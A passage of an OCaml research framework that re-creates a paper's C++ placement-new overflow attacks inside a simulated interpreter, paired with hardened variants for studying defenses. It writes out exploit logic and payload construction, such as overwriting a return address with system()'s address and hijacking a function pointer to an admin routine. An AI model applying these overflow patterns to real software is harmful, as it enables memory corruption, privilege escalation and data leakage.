            expr (mcall (v "player") "addStudentPlayer" [ v "remote" ]);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let player = D.global_addr m "player" in
  let stud2_gpa_lo = D.u32 m (player + 16) in
  let stud2_year = D.u32 m (player + 24) in
  let n = D.u32 m (player + 32) in
  if
    O.exited_normally o
    && stud2_gpa_lo = Schema.junk0
    && stud2_year = 1999
    && n = 1
    && D.tainted m (player + 16) 12
  then
    C.success
      "internal state corrupted: stud2.gpa lo=0x%08x year=%d while n=%d stays sane"
      stud2_gpa_lo stud2_year n
  else
    C.failure "player intact (year=%d n=%d, status %a)" stud2_year n O.pp_status
      o.O.status

let attack =
  C.make ~id:"L10-internal" ~listing:10 ~section:"3.4" ~name:"internal overflow"
    ~segment:C.Data_bss
    ~goal:"corrupt a sibling member inside the same enclosing object"
    ~program:program_
    ~mk_input:(fun _m -> ([ Schema.junk0; Schema.junk1; 1999 ], []))
    ~check ()
