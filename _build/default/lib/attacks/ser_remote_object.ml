(** §3.2 end-to-end — Overflow via serialized/remote objects.

    The enrollment service receives wire-format datagrams (binary, via the
    [recv] builtin) and re-materializes them into a per-request pool with
    placement new — the paper's "web services ... object-based information
    transfer" scenario. The pool is sized for a [NetStudent]; the service
    trusts the datagram's class id and course count.

    - [grad_object]: the datagram claims class NetGradStudent; the
      placed object's SSN words land on the [quota]/[next_uid] globals.
    - [course_count]: the datagram inflates its course count; the copy loop
      runs past the placed object across [rejected]/[budget].

    Hardened variants apply §5.1: reject oversize classes, clamp counts. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome
module Wire = Pna_serial.Wire
module Victim = Pna_serial.Victim

let mk_program ~checked =
  program ~classes:Victim.classes
    ~globals:
      ([ Victim.pool_global; global "quota" int; global "next_uid" int ]
      @ Victim.state_globals
      @ [ global "budget" int ])
    [
      Victim.deserialize_func ~checked;
      func "main"
        [
          decl "dgram" (char_arr 128);
          decli "len" int (call "recv" [ v "dgram"; i 128 ]);
          when_ (v "len" >: i 0) [ expr (call "deserialize" [ v "dgram" ]) ];
          ret (i 0);
        ];
    ]

let attacker_quota = 0x00111111
let attacker_uid = 0x00222222

let grad_payload =
  Wire.encode
    (Wire.grad_student ~gpa:3.9 ~year:2011 ~semester:1
       ~ssn:[| attacker_quota; attacker_uid; 7 |] ())

let check_grad m (o : O.t) =
  let quota = D.global_u32 m "quota" in
  let uid = D.global_u32 m "next_uid" in
  if
    O.exited_normally o && quota = attacker_quota && uid = attacker_uid
    && D.global_tainted m "quota" 8
  then
    C.success "deserialized SSN rewrote quota=0x%08x next_uid=0x%08x" quota uid
  else C.failure "quota=0x%08x uid=0x%08x (status %a)" quota uid O.pp_status o.O.status

let grad_object =
  C.make ~id:"SER-object" ~section:"3.2"
    ~name:"remote object of a larger class deserialized into the pool"
    ~segment:C.Data_bss
    ~goal:"the wire's class id drives an unchecked placement"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([], [ grad_payload ]))
    ~check:check_grad ()

let attacker_course = 0x000b06e7

let count_payload =
  Wire.encode
    (Wire.grad_student ~ssn:[| 1; 2; 3 |]
       ~courses:[ 501; attacker_course; 503; 504; 505; 506; 507; 508 ]
       ~claimed_courses:8 ())

let check_count m (o : O.t) =
  let budget = D.global_u32 m "budget" in
  if O.exited_normally o && budget = attacker_course && D.global_tainted m "budget" 4
  then C.success "course list ran past the object: budget=0x%08x" budget
  else C.failure "budget=0x%08x (status %a)" budget O.pp_status o.O.status

let course_count =
  C.make ~id:"SER-count" ~section:"3.2"
    ~name:"inflated element count in a serialized object" ~segment:C.Data_bss
    ~goal:"the wire's count field drives the copy loop past the arena"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([], [ count_payload ]))
    ~check:check_count ()
