(** The paper's running example: class [Student] and its subclass
    [GradStudent] (Listing 1), plus the polymorphic variants used by the
    virtual-table subterfuge of §3.8.2.

    Layout under the ILP32 model:
    - [Student]: gpa@0 (double), year@8, semester@12 — size 16, align 8.
    - [GradStudent]: Student base @0, ssn[0]@16, ssn[1]@20, ssn[2]@24,
      tail padding 28..31 — size 32.
    - [StudentV] (virtual getInfo): vptr@0, gpa@8, year@16, semester@20 —
      size 24.
    - [GradStudentV]: base @0, ssn@24/28/32, padding to 40.

    So placing a GradStudent over a Student writes 16 attacker-reachable
    bytes past the end of the original object — the paper's entire attack
    surface in one number. *)

open Pna_layout
open Pna_minicpp.Dsl

let student =
  Class_def.v "Student"
    [ ("gpa", double); ("year", int); ("semester", int) ]

let grad_student =
  Class_def.v "GradStudent" ~bases:[ "Student" ]
    ~methods:[ Class_def.plain_method ~impl:"GradStudent::setSSN" "setSSN" ]
    [ ("ssn", int_arr 3) ]

let student_v =
  Class_def.v "StudentV"
    ~methods:[ Class_def.virtual_method ~impl:"StudentV::getInfo" "getInfo" ]
    [ ("gpa", double); ("year", int); ("semester", int) ]

let grad_student_v =
  Class_def.v "GradStudentV" ~bases:[ "StudentV" ]
    ~methods:
      [
        Class_def.virtual_method ~impl:"GradStudentV::getInfo" "getInfo";
        Class_def.plain_method ~impl:"GradStudentV::setSSN" "setSSN";
      ]
    [ ("ssn", int_arr 3) ]

(* Student::Student() : gpa(0.0), year(0), semester(0) *)
let student_default_ctor =
  func "Student::ctor"
    ~params:[ ("this", ptr (cls "Student")) ]
    [
      set (arrow (v "this") "gpa") (fl 0.0);
      set (arrow (v "this") "year") (i 0);
      set (arrow (v "this") "semester") (i 0);
    ]

(* Student::Student(double sgpa, int yr, int sem) *)
let student_ctor3 =
  func "Student::ctor"
    ~params:
      [ ("this", ptr (cls "Student")); ("sgpa", double); ("yr", int); ("sem", int) ]
    [
      set (arrow (v "this") "gpa") (v "sgpa");
      set (arrow (v "this") "year") (v "yr");
      set (arrow (v "this") "semester") (v "sem");
    ]

(* GradStudent::GradStudent() { } *)
let grad_default_ctor =
  func "GradStudent::ctor" ~params:[ ("this", ptr (cls "GradStudent")) ] []

(* GradStudent::GradStudent(double sgpa, int yr, int sem)
   { gpa = sgpa; year = yr; semester = sem; } *)
let grad_ctor3 =
  func "GradStudent::ctor"
    ~params:
      [
        ("this", ptr (cls "GradStudent"));
        ("sgpa", double);
        ("yr", int);
        ("sem", int);
      ]
    [
      set (arrow (v "this") "gpa") (v "sgpa");
      set (arrow (v "this") "year") (v "yr");
      set (arrow (v "this") "semester") (v "sem");
    ]

let set_ssn_body this_class =
  [
    set (idx (arrow (v "this") "ssn") (i 0)) (v "s0");
    set (idx (arrow (v "this") "ssn") (i 1)) (v "s1");
    set (idx (arrow (v "this") "ssn") (i 2)) (v "s2");
  ]
  |> func "GradStudent::setSSN"
       ~params:
         [ ("this", ptr (cls this_class)); ("s0", int); ("s1", int); ("s2", int) ]

let grad_set_ssn = set_ssn_body "GradStudent"

let grad_v_set_ssn =
  {
    (set_ssn_body "GradStudentV") with
    Pna_minicpp.Ast.fn_name = "GradStudentV::setSSN";
  }

let getinfo_impl name =
  func name ~params:[ ("this", ptr void) ] ~ret:int [ ret (i 1) ]

(* The class/function bundle most listings share. *)
let base_classes = [ student; grad_student ]

let base_funcs =
  [ student_default_ctor; student_ctor3; grad_default_ctor; grad_ctor3; grad_set_ssn ]

let virtual_classes = [ student_v; grad_student_v ]

let virtual_funcs =
  [
    func "StudentV::ctor" ~params:[ ("this", ptr (cls "StudentV")) ]
      [
        set (arrow (v "this") "gpa") (fl 0.0);
        set (arrow (v "this") "year") (i 0);
        set (arrow (v "this") "semester") (i 0);
      ];
    func "GradStudentV::ctor" ~params:[ ("this", ptr (cls "GradStudentV")) ] [];
    getinfo_impl "StudentV::getInfo";
    getinfo_impl "GradStudentV::getInfo";
    grad_v_set_ssn;
  ]

(* The §3.6 input loop: read three ints, store positive ones into ssn[].
   Supplying a non-positive value skips that slot — the canary-bypass
   trick of §5.2. *)
let ssn_input_loop gs_var =
  [
    decli "i" int (i (-1));
    decli "dssn" int (i 0);
    while_ (incr (v "i") <: i 3)
      [
        set (v "dssn") cin;
        when_
          (v "dssn" >: i 0)
          [ set (idx (arrow (v gs_var) "ssn") (v "i")) (v "dssn") ];
      ];
  ]

(* Recognizable attacker constants. *)
let junk0 = 0x41414141
let junk1 = 0x42424242
let junk2 = 0x43434343
