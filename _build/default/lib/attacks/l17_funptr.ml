(** §3.9, Listing 17 — Function pointer subterfuge.

    A function pointer local is declared before [stud], initialised to
    NULL so the guarded call site is dead code. The overflow writes the
    address of [grant_admin] — a real function that was never supposed to
    run in this context — into the pointer, and the guard now passes. *)

open Pna_minicpp.Dsl
module C = Catalog
module Machine = Pna_machine.Machine
module O = Pna_minicpp.Outcome

let program_ =
  program ~classes:Schema.base_classes
    ~globals:[ global "isGradStudent" int; global "admin" int ]
    (Schema.base_funcs
    @ [
        (* privileged operation, reachable only through the hijack *)
        func "grant_admin" [ set (v "admin") (i 1) ];
        func "addStudent"
          [
            decli "createStudentAccount" fun_ptr null;
            obj "stud" "Student" [];
            when_ (v "isGradStudent")
              [
                decli "gs"
                  (ptr (cls "GradStudent"))
                  (pnew (addr (v "stud")) (cls "GradStudent") []);
                (* ssn[1] aliases the function pointer (§3.7.2 layout) *)
                set (idx (arrow (v "gs") "ssn") (i 1)) cin;
              ];
            when_
              (v "createStudentAccount" <>: null)
              [ expr (fpcall (v "createStudentAccount") []) ];
          ];
        func "main"
          [ set (v "isGradStudent") (i 1); expr (call "addStudent" []); ret (i 0) ];
      ])

let attack =
  C.make ~id:"L17-funptr" ~listing:17 ~section:"3.9"
    ~name:"function pointer subterfuge" ~segment:C.Stack
    ~goal:"invoke a method that was not supposed to be called"
    ~program:program_
    ~mk_input:(fun m -> ([ Machine.function_addr m "grant_admin" ], []))
    ~check:(C.expect_arc ~via:O.Function_pointer ~symbol:"grant_admin") ()
