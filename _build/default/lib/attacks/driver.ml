(** Runs catalogue attacks against defense configurations and inspects the
    resulting memory image. *)

module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module Interp = Pna_minicpp.Interp
module Outcome = Pna_minicpp.Outcome
module Vmem = Pna_vmem.Vmem

type result = {
  attack : Catalog.t;
  config : Config.t;
  outcome : Outcome.t;
  verdict : Catalog.verdict;
}

let run ?(config = Config.none) (a : Catalog.t) =
  let m = Interp.load ~config a.Catalog.program in
  let ints, strings = a.Catalog.mk_input m in
  Machine.set_input ~ints ~strings m;
  let outcome = Interp.run m a.Catalog.program ~entry:a.Catalog.entry in
  let verdict = a.Catalog.check m outcome in
  { attack = a; config; outcome; verdict }

(* Run the §5.1 hardened variant of [a] under the same attacker input. The
   hardened program is judged safe when it terminates normally and no
   hijack or corruption event fired. *)
let run_hardened ?(config = Config.none) (a : Catalog.t) =
  Option.map
    (fun program ->
      let m = Interp.load ~config program in
      let ints, strings = a.Catalog.mk_input m in
      Machine.set_input ~ints ~strings m;
      let outcome = Interp.run m program ~entry:a.Catalog.entry in
      let safe =
        Outcome.exited_normally outcome
        && not (List.exists Pna_machine.Event.is_hijack outcome.Outcome.events)
      in
      (outcome, safe))
    a.Catalog.hardened

(* --- memory inspection helpers for attack checks --- *)

let global_addr m name = Machine.global_addr_exn m name
let u32 m addr = Vmem.read_u32 (Machine.mem m) addr
let f64 m addr = Vmem.read_f64 (Machine.mem m) addr
let tainted m addr len = Vmem.range_tainted (Machine.mem m) addr len
let bytes m addr len = Vmem.read_bytes (Machine.mem m) addr len

let global_u32 ?(off = 0) m name = u32 m (global_addr m name + off)
let global_f64 ?(off = 0) m name = f64 m (global_addr m name + off)
let global_tainted ?(off = 0) m name len = tainted m (global_addr m name + off) len

let output_contains (o : Outcome.t) needle =
  let contains s =
    let nl = String.length needle and sl = String.length s in
    let rec go i = i + nl <= sl && (String.sub s i nl = needle || go (i + 1)) in
    nl = 0 || go 0
  in
  List.exists contains o.Outcome.output

let pp_result ppf r =
  Fmt.pf ppf "@[<v2>%s under %s: %s@,outcome: %a@,verdict: %s@]" r.attack.Catalog.id
    r.config.Config.name
    (if r.verdict.Catalog.success then "ATTACK SUCCEEDED" else "attack failed")
    Outcome.pp_status r.outcome.Outcome.status r.verdict.Catalog.detail
