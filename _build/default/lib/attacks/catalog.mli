(** The attack catalogue: one entry per exploit scenario of the paper,
    bundling the vulnerable program, the attacker's input script (computed
    against the loaded machine so it can embed real addresses) and a
    memory-level success predicate. *)

module Machine = Pna_machine.Machine
module Outcome = Pna_minicpp.Outcome

type segment = Stack | Heap | Data_bss | Mixed

val segment_name : segment -> string

type verdict = { success : bool; detail : string }

val success : ('a, Format.formatter, unit, verdict) format4 -> 'a
val failure : ('a, Format.formatter, unit, verdict) format4 -> 'a

type t = {
  id : string;
  listing : int option;  (** paper listing number, when there is one *)
  section : string;
  name : string;
  segment : segment;
  goal : string;
  program : Pna_minicpp.Ast.program;
  hardened : Pna_minicpp.Ast.program option;  (** §5.1 correct-coding twin *)
  entry : string;
  mk_input : Machine.t -> int list * string list;
  check : Machine.t -> Outcome.t -> verdict;
}

val make :
  ?listing:int ->
  ?hardened:Pna_minicpp.Ast.program ->
  ?entry:string ->
  id:string ->
  section:string ->
  name:string ->
  segment:segment ->
  goal:string ->
  program:Pna_minicpp.Ast.program ->
  mk_input:(Machine.t -> int list * string list) ->
  check:(Machine.t -> Outcome.t -> verdict) ->
  unit ->
  t

val expect_arc :
  via:Outcome.hijack_via -> symbol:string -> Machine.t -> Outcome.t -> verdict
(** Verdict builder: success iff the run ended in an arc injection through
    [via] to [symbol]. *)
