(** §3.7.1, Listing 14 — Modification of data/bss variables.

    The global counter [noOfStudents] sits directly after the global
    [stud1] in bss; placing a [GradStudent] at [&stud1] makes ssn[0] alias
    it, so the attacker picks its value. Corrupting such bookkeeping
    variables is the first step of the two-step array attacks of §4 and of
    the DoS attacks of §4.4. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let attacker_count = 7777777

let program_ =
  program ~classes:Schema.base_classes
    ~globals:
      [
        global "stud1" (cls "Student");
        global "noOfStudents" int;
        global "isGradStudent" int;
      ]
    (Schema.base_funcs
    @ [
        func "addStudent"
          [
            when_ (v "isGradStudent")
              [
                decli "st"
                  (ptr (cls "GradStudent"))
                  (pnew (addr (v "stud1")) (cls "GradStudent")
                     [ fl 3.2; i 2010; i 2 ]);
                expr (mcall (v "st") "setSSN" [ cin; cin; cin ]);
              ];
            set (v "noOfStudents") (v "noOfStudents" +: i 1);
          ];
        func "main"
          [
            set (v "isGradStudent") (i 1);
            expr (call "addStudent" []);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let n = D.global_u32 m "noOfStudents" in
  (* the program increments after the overflow, so attacker value + 1 *)
  if O.exited_normally o && n = attacker_count + 1 && D.global_tainted m "noOfStudents" 4
  then C.success "noOfStudents forced to %d (expected 1)" n
  else C.failure "noOfStudents=%d (status %a)" n O.pp_status o.O.status

let attack =
  C.make ~id:"L14-bssvar" ~listing:14 ~section:"3.7.1"
    ~name:"modify data/bss variable" ~segment:C.Data_bss
    ~goal:"set a global bookkeeping counter to an attacker-chosen value"
    ~program:program_
    ~mk_input:(fun _m -> ([ attacker_count; 0; 0 ], []))
    ~check ()
