(** §4.5, Listing 23 — Memory leaks through placement new.

    Each loop iteration heap-allocates a GradStudent, places a smaller
    Student over it, and releases the Student through its own (static)
    type. Without a placement-delete / pool discipline, only the Student's
    footprint returns to the allocator: the tail of every block is
    stranded. Driven hard enough, the process runs out of memory — the
    §4.4/§4.5 DoS. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module Machine = Pna_machine.Machine
module O = Pna_minicpp.Outcome

let mk_program ~checked =
  program ~classes:Schema.base_classes
    ~globals:
      [
        global "stud" (ptr (cls "GradStudent"));
        global "st" (ptr (cls "Student"));
        global "iters" int;
      ]
    (Schema.base_funcs
    @ [
        func "addStudent"
          [
            for_
              (decli "k" int (i 0))
              (v "k" <: v "iters")
              (set (v "k") (v "k" +: i 1))
              [
                set (v "stud") (new_ (cls "GradStudent") []);
                set (v "st") (pnew (v "stud") (cls "Student") []);
                (if checked then
                   (* §5.1: release the whole arena through the allocator *)
                   delete (v "st")
                 else
                   (* free memory of st — only sizeof(Student) comes back *)
                   delete_placed (v "st") (cls "Student"));
                set (v "stud") null;
              ];
          ];
        func "main" [ set (v "iters") cin; expr (call "addStudent" []); ret (i 0) ];
      ])

let iterations = 200

(* leaked per iteration = sizeof(GradStudent) - sizeof(Student) *)
let leak_per_iter = 16

let check_leak m (o : O.t) =
  let leaked = Machine.leaked_bytes m in
  let expected = iterations * leak_per_iter in
  if O.exited_normally o && leaked = expected then
    C.success "%d bytes leaked over %d iterations (= %d per placement)" leaked
      iterations leak_per_iter
  else
    C.failure "leaked %d bytes, expected %d (status %a)" leaked expected
      O.pp_status o.O.status

let check_oom _m (o : O.t) =
  match o.O.status with
  | O.Out_of_memory -> C.success "allocator exhausted: process dies of OOM"
  | st -> C.failure "expected OOM, got %a" O.pp_status st

let attack =
  C.make ~id:"L23-memleak" ~listing:23 ~section:"4.5"
    ~name:"memory leak via placement delete mismatch" ~segment:C.Heap
    ~goal:"strand sizeof(GradStudent)-sizeof(Student) bytes per iteration"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([ iterations ], []))
    ~check:check_leak ()

let oom =
  C.make ~id:"L23-oom" ~listing:23 ~section:"4.4/4.5" ~name:"DoS via memory leak"
    ~segment:C.Heap ~goal:"crash the process by exhausting the heap"
    ~program:(mk_program ~checked:false)
    ~mk_input:(fun _m -> ([ 1000000 ], []))
    ~check:check_oom ()
