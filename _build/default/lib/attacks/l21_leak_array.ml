(** §4.3, Listing 21 — Information leakage via arrays.

    A password file is read into a 64-byte pool; later the pool is reused
    for user data with placement new. Placement new does not sanitize the
    arena, so when the user supplies a short string, the bytes past it
    still hold the password file, and the program's own store() ships them
    out. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let secret = "root:x:0:0:SECRET-TOKEN-1337:/root:/bin/bash\n"

let mk_program ~checked =
  program
    ~globals:
      [
        (* "mmap/read a password file to mem_pool" — modelled by the
           initializer *)
        global "mem_pool" ~init:(Sval secret) (char_arr 64);
        global "userdata" char_p;
      ]
    [
      func "main"
        ((if checked then
            (* §5.1: sanitize before reuse *)
            [ expr (call "memset" [ v "mem_pool"; i 0; i 64 ]) ]
          else [])
        @ [
            (* MAX_USERDATA (32) <= SIZE (64) *)
            set (v "userdata") (pnew_arr (v "mem_pool") char (i 32));
            expr (call "strncpy" [ v "userdata"; cin_str; i 8 ]);
            expr (call "store" [ v "userdata"; i 64 ]);
            ret (i 0);
          ]);
    ]

let check _m (o : O.t) =
  if D.output_contains o "SECRET-TOKEN-1337" then
    C.success "password-file bytes left in the pool reached store()"
  else
    C.failure "no secret in stored output (status %a)" O.pp_status o.O.status

let attack =
  C.make ~id:"L21-leakarr" ~listing:21 ~section:"4.3"
    ~name:"information leakage via array placement" ~segment:C.Data_bss
    ~goal:"exfiltrate stale secret bytes past a short user string"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([], [ "bob" ]))
    ~check ()
