(** §3.10, Listing 18 — Variable pointer subterfuge.

    The global [name] pointer sits right after the global [stud]; ssn[0]
    of the placed GradStudent aliases it. The attacker repoints [name] at
    the [authenticated] flag, and the program's own "store the user's
    name" strcpy then writes attacker bytes through the hijacked pointer. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module Machine = Pna_machine.Machine
module O = Pna_minicpp.Outcome

let program_ =
  program ~classes:Schema.base_classes
    ~globals:
      [
        global "stud" (cls "Student");
        global "name" char_p;
        global "authenticated" int;
      ]
    (Schema.base_funcs
    @ [
        func "main"
          [
            set (v "name") (new_arr char (i 16));
            decli "st"
              (ptr (cls "GradStudent"))
              (pnew (addr (v "stud")) (cls "GradStudent") []);
            (* ssn[0] overwrites the pointer variable [name] *)
            set (idx (arrow (v "st") "ssn") (i 0)) cin;
            (* the program later saves the user's name through [name] *)
            expr (call "strcpy" [ v "name"; cin_str ]);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let auth = D.global_u32 m "authenticated" in
  let name_ptr = D.global_u32 m "name" in
  if
    O.exited_normally o && auth <> 0
    && name_ptr = D.global_addr m "authenticated"
    && D.global_tainted m "authenticated" 4
  then C.success "name pointer hijacked to &authenticated; flag now 0x%08x" auth
  else C.failure "authenticated=0x%08x (status %a)" auth O.pp_status o.O.status

let attack =
  C.make ~id:"L18-varptr" ~listing:18 ~section:"3.10"
    ~name:"variable pointer subterfuge" ~segment:C.Data_bss
    ~goal:"write attacker bytes through a hijacked data pointer"
    ~program:program_
    ~mk_input:(fun m ->
      ([ Machine.global_addr_exn m "authenticated" ], [ "\001\001\001" ]))
    ~check ()
