(** §3.2, Listing 7 — Object overflow via copy constructor.

    [addStudent] places a [GradStudent] built by the (implicit, shallow)
    copy constructor into the 16-byte arena of the global [stud]. The copy
    is memberwise — 32 bytes — so the source object's SSN (attacker data)
    lands on whatever follows [stud]: here the [access_level] global. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let attacker_level = 0x7fffffff

let mk_program ~checked =
  let place =
    [
      decli "st"
        (ptr (cls "Student"))
        (pnew (addr (v "stud")) (cls "GradStudent") [ v "remoteobj" ]);
    ]
  in
  let body =
    if checked then
      [
        if_
          (sizeof (cls "GradStudent") <=: sizeof (cls "Student"))
          place
          [ decli "st" (ptr (cls "Student")) (new_ (cls "GradStudent") [ v "remoteobj" ]) ];
      ]
    else place
  in
  program ~classes:Schema.base_classes
    ~globals:[ global "stud" (cls "Student"); global "access_level" int ]
    (Schema.base_funcs
    @ [
        func "addStudent" ~params:[ ("remoteobj", ptr (cls "Student")) ] body;
        func "main"
          [
            (* the "remote" object arrives with attacker-chosen SSN *)
            decli "remote" (ptr (cls "GradStudent")) (new_ (cls "GradStudent") []);
            expr (mcall (v "remote") "setSSN" [ cin; cin; cin ]);
            expr (call "addStudent" [ v "remote" ]);
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  let level = D.global_u32 m "access_level" in
  if O.exited_normally o && level = attacker_level && D.global_tainted m "access_level" 4
  then C.success "access_level global set to 0x%08x by copied ssn[0]" level
  else C.failure "access_level=0x%08x (status %a)" level O.pp_status o.O.status

let attack =
  C.make ~id:"L07-copyctor" ~listing:7 ~section:"3.2"
    ~name:"overflow via copy constructor" ~segment:C.Data_bss
    ~goal:"shallow copy of a larger received object spills attacker bytes"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([ attacker_level; Schema.junk1; Schema.junk2 ], []))
    ~check ()
