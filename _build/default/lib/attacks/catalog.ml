(** The attack catalogue: one entry per exploit scenario from the paper.

    An attack bundles the vulnerable MiniC++ program (a transcription of a
    numbered listing), the attacker's input script — computed against the
    loaded machine so it can embed real addresses, exactly like an attacker
    who has studied the target binary — and a success predicate over the
    run's outcome and final memory image. *)

module Machine = Pna_machine.Machine
module Outcome = Pna_minicpp.Outcome

type segment = Stack | Heap | Data_bss | Mixed

let segment_name = function
  | Stack -> "stack"
  | Heap -> "heap"
  | Data_bss -> "data/bss"
  | Mixed -> "mixed"

type verdict = { success : bool; detail : string }

let success fmt = Fmt.kstr (fun detail -> { success = true; detail }) fmt
let failure fmt = Fmt.kstr (fun detail -> { success = false; detail }) fmt

type t = {
  id : string;  (** stable identifier, e.g. "L13-ret" *)
  listing : int option;  (** paper listing number, when there is one *)
  section : string;  (** paper section *)
  name : string;
  segment : segment;
  goal : string;  (** what the attacker gains *)
  program : Pna_minicpp.Ast.program;
  hardened : Pna_minicpp.Ast.program option;
      (** §5.1 correct-coding variant of the same program, when defined *)
  entry : string;
  mk_input : Machine.t -> int list * string list;
  check : Machine.t -> Outcome.t -> verdict;
}

let make ?listing ?hardened ?(entry = "main") ~id ~section ~name ~segment ~goal
    ~program ~mk_input ~check () =
  {
    id;
    listing;
    section;
    name;
    segment;
    goal;
    program;
    hardened;
    entry;
    mk_input;
    check;
  }

(* Common verdicts *)

let expect_arc ~via ~symbol (_ : Machine.t) (o : Outcome.t) =
  match o.Outcome.status with
  | Outcome.Arc_injection a when a.symbol = symbol && a.via = via ->
    success "control redirected to %s via %s" symbol (Outcome.via_name via)
  | st -> failure "expected arc injection to %s, got %a" symbol Outcome.pp_status st
