(** §4.1, Listing 19 — Two-step stack overflow using arrays.

    Step 1: the object overflow rewrites the local [n_unames] *after* the
    [n_unames > n_students] check already passed, so the placement-new
    array carved from the 64-byte stack pool is larger than the pool.
    Step 2: a perfectly ordinary strncpy with the corrupted bound copies
    the attacker's username string across the saved frame pointer and
    return address. The string is the address of system() repeated, so
    whatever 4-byte slot the return slot falls on, it reads system(). *)

open Pna_minicpp.Dsl
module C = Catalog
module Machine = Pna_machine.Machine
module O = Pna_minicpp.Outcome

let uname_entry = 8 (* UNAME_SIZE + 1 *)

let mk_program ~checked =
  let place_grad =
    [
      decli "gs"
        (ptr (cls "GradStudent"))
        (pnew (addr (v "stud")) (cls "GradStudent") []);
      (* read st->ssn[] "to validate a grad student" (paper) —
         ssn[0] aliases n_unames *)
      set (idx (arrow (v "gs") "ssn") (i 0)) cin;
    ]
  in
  let body =
    [
      decl "mem_pool" (char_arr 64);
      decli "n_unames" int (i 0);
      obj "stud" "Student" [];
      set (v "n_unames") cin;
      when_ (v "n_unames" >: v "n_students") [ ret0 ];
      when_ (v "isGradStudent")
        (if checked then
           (* §5.1: size-check the object placement itself *)
           [
             if_
               (sizeof (cls "GradStudent") <=: sizeof (cls "Student"))
               place_grad
               [ expr cin (* still consume the validation input *) ];
           ]
         else place_grad);
    ]
    @ (if checked then
         (* §5.1: re-validate the bound at the point of use *)
         [ when_ (v "n_unames" >: v "n_students") [ ret0 ] ]
       else [])
    @ [
        decli "buf" char_p
          (pnew_arr (v "mem_pool") char (v "n_unames" *: i uname_entry));
        expr (call "strncpy" [ v "buf"; v "uname"; v "n_unames" *: i uname_entry ]);
      ]
  in
  program ~classes:Schema.base_classes
    ~globals:
      [ global "n_students" ~init:(Ival 8) int; global "isGradStudent" int ]
    (Schema.base_funcs
    @ [
        func "sortAndAddUname" ~params:[ ("uname", char_p) ] body;
        func "main"
          [
            set (v "isGradStudent") (i 1);
            expr (call "sortAndAddUname" [ cin_str ]);
            ret (i 0);
          ];
      ])

(* A username that is really system()'s address over and over (no NUL
   bytes, so strncpy keeps copying). *)
let mk_input m =
  let target = Machine.function_addr m "system" in
  let le =
    String.init 4 (fun k -> Char.chr ((target lsr (8 * k)) land 0xff))
  in
  let forced_n = 10 in
  let payload = String.concat "" (List.init (forced_n * 2) (fun _ -> le)) in
  (* first cin: a plausible count that passes the check; second: ssn[0]
     forcing n_unames to 10 entries = 80 bytes from a 64-byte pool *)
  ([ 5; forced_n ], [ payload ])

let attack =
  C.make ~id:"L19-arrstack" ~listing:19 ~section:"4.1"
    ~name:"two-step array overflow on the stack" ~segment:C.Stack
    ~goal:"corrupt the pool bound, then smash the return address via strncpy"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input
    ~check:(C.expect_arc ~via:O.Return_address ~symbol:"system") ()
