(** §3.2, Listing 6 — Object overflow via construction: field-by-field copy.

    The receiving program copies [remoteobj->n] course ids from a received
    record into an object freshly placed over the global [stud]. The local
    record holds 8 ids; the attacker's record claims 16, so ids 8..15 are
    written past the placed object, across the [marker] global. *)

open Pna_minicpp.Dsl
open Pna_layout
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let local_rec =
  Class_def.v "LocalRec" [ ("n", int); ("courseid", int_arr 8) ]

let remote_rec =
  Class_def.v "RemoteRec" [ ("n", int); ("courseid", int_arr 16) ]

let attacker_marker = 0x4d4d4d4d

let program_ =
  program
    ~classes:[ local_rec; remote_rec ]
    ~globals:[ global "stud" (cls "LocalRec"); global "marker" int ]
    [
      func "addStudent"
        ~params:[ ("remoteobj", ptr (cls "RemoteRec")) ]
        [
          decli "st" (ptr (cls "LocalRec")) (pnew (addr (v "stud")) (cls "LocalRec") []);
          decli "j" int (i (-1));
          while_
            (incr (v "j") <: arrow (v "remoteobj") "n")
            [
              set
                (idx (arrow (v "st") "courseid") (v "j"))
                (idx (arrow (v "remoteobj") "courseid") (v "j"));
            ];
        ];
      func "main"
        [
          decli "remote" (ptr (cls "RemoteRec")) (new_ (cls "RemoteRec") []);
          set (arrow (v "remote") "n") cin;
          for_
            (decli "j" int (i 0))
            (v "j" <: i 16)
            (set (v "j") (v "j" +: i 1))
            [ set (idx (arrow (v "remote") "courseid") (v "j")) cin ];
          expr (call "addStudent" [ v "remote" ]);
          ret (i 0);
        ];
    ]

let check m (o : O.t) =
  let marker = D.global_u32 m "marker" in
  if O.exited_normally o && marker = attacker_marker && D.global_tainted m "marker" 4
  then C.success "marker global overwritten with courseid[8]=0x%08x" marker
  else C.failure "marker=0x%08x (status %a)" marker O.pp_status o.O.status

let attack =
  C.make ~id:"L06-copyloop" ~listing:6 ~section:"3.2"
    ~name:"overflow via per-field copy of remote object" ~segment:C.Data_bss
    ~goal:"remote-controlled loop bound copies fields past the placed object"
    ~program:program_
    ~mk_input:(fun _m ->
      let ids = List.init 16 (fun j -> if j = 8 then attacker_marker else 100 + j) in
      (16 :: ids, []))
    ~check ()
