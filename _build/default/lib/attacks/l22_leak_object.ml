(** §4.3, Listing 22 — Information leakage via objects.

    A GradStudent (with SSN) is heap-allocated; its arena is later reused
    for a plain Student via placement new. The Student's constructor only
